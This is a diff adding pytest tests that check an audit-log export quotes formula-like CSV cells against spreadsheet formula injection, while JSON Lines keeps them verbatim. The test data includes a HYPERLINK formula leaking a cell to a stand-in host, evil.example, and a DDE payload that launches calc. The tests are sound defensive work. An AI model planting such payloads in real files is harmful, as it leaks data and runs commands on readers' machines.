@@ -135,21 +135,61 @@ def test_a_streamed_export_has_no_file_to_download(client, cast, trail):
     assert client.get(f"/audit/exports/{response['X-Export-Id']}/download").status_code == 404
 
 
+# Spreadsheets run a cell that starts with one of these as a formula (tab and CR as well, OWASP CSV injection).
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd",
+            "'=already quoted"]  # fmt: skip
+
+
+@pytest.mark.parametrize("label", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr", "quote"])
+def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, cast, models, label):
+    with transaction.atomic():
+        record(action=Action.MODEL_UPDATED, actor=Actor.system(label), target=Target("x.y", label, label),
+               changes={"name": [label, "safe"]})  # fmt: skip
+    event = AuditEvent.objects.get(target_label=label)
+    row = next(row for row in parse_csv(body_of(start_export(client, cast.admin, "csv")))[1:]
+               if int(row[0]) == event.sequence)  # fmt: skip
+    column = dict(zip(writer.CSV_HEADER, row, strict=True))
+    assert (column["actor"], column["target_id"], column["target"]) == (f"'{label}",) * 3
+    assert column["changes"].startswith("{")  # JSON text starts safely; the label inside it is not at a cell start
+    # Dropping one leading quote gives the stored value back, so nothing is lost for a reader who re-derives it.
+    assert column["target"][1:] == event.target_label
+
+
+def test_jsonl_keeps_formula_like_values_byte_for_byte(client, cast, models):
+    with transaction.atomic():
+        for label in FORMULAS:
+            record(action=Action.MODEL_UPDATED, actor=Actor.system(label), target=Target("x.y", label, label))
+    lines, _ = split_jsonl(body_of(start_export(client, cast.admin, "jsonl")))
+    exported = [json.loads(line) for line in lines if json.loads(line)["target_type"] == "x.y"]
+    assert [event["target_label"] for event in exported] == FORMULAS
+    assert [event["actor_label"] for event in exported] == FORMULAS
+    events = AuditEvent.objects.filter(target_type="x.y").order_by("sequence")
+    assert [line for line in lines if b'"target_type":"x.y"' in line] == [
+        json.dumps(writer.jsonl_event(row), sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
+        for row in writer.rows(events)
+    ]
+    assert all(event["hash"] == hashing.compute_hash({key: event[key] for key in hashing.HASHED_FIELDS})
+               for event in exported)  # fmt: skip
+
+
 # --- byte for byte what the straightforward encoding gives -----------------------------------------------------
 
 
 def reference_csv(rows) -> bytes:
-    """The CSV of the dict rows, as the writer first wrote it: one dict and one writerow() per event."""
+    """The CSV of the dict rows, as the writer first wrote it: one dict and one writerow() per event (with every text
+    cell that starts like a formula prefixed with a quote)."""
     buffer = io.StringIO()
     out = csv.writer(buffer, lineterminator="\r\n")
     out.writerow(writer.CSV_HEADER)
+    safe = writer.neutralise
     for row in rows:
         context = row["context"] or {}
         out.writerow([
-            row["sequence"], hashing.format_timestamp(row["timestamp"]), row["actor_label"], row["actor_kind"],
-            "" if row["actor_id"] is None else row["actor_id"], row["action"], row["target_type"], row["target_id"],
-            row["target_label"], json.dumps(row["changes"], sort_keys=True, ensure_ascii=False),
-            context.get("request_id", ""), context.get("client_ip", ""), context.get("source", ""),
+            row["sequence"], hashing.format_timestamp(row["timestamp"]), safe(row["actor_label"]),
+            safe(row["actor_kind"]), "" if row["actor_id"] is None else row["actor_id"], safe(row["action"]),
+            safe(row["target_type"]), safe(row["target_id"]), safe(row["target_label"]),
+            json.dumps(row["changes"], sort_keys=True, ensure_ascii=False), safe(context.get("request_id", "")),
+            safe(context.get("client_ip", "")), safe(context.get("source", "")),
             *("" if row[name] is None else row[name] for name in SCOPE_FIELDS), row["hash"], row["prev_hash"],
         ])  # fmt: skip
     return buffer.getvalue().encode("utf-8")
@@ -162,6 +202,9 @@ def reference_jsonl(rows) -> bytes:
 
 
 def test_exports_are_byte_for_byte_the_reference_encoding(cast, trail, monkeypatch):
+    with transaction.atomic():  # formula-like text: neutralised in the CSV, verbatim in JSON Lines
+        record(action=Action.MODEL_UPDATED, actor=Actor.system("=cmd|' /C calc'!A0"),
+               target=Target("x.y", "-1", "@SUM(1+1)"), changes={"formula": ["=1+1", "+1"]})  # fmt: skip
     odd = {"tiny": 1e-05, "huge": 1e16, "third": 1 / 3, "big": 2**62, "flags": [True, False, None], "ctrl": "\x01\t",
            "slash": "a/b\\c", "emoji": "🙂", "nested": {"b": {"z": 1, "a": [1.5, "é"]}, "a": ""}}  # fmt: skip
     with transaction.atomic():
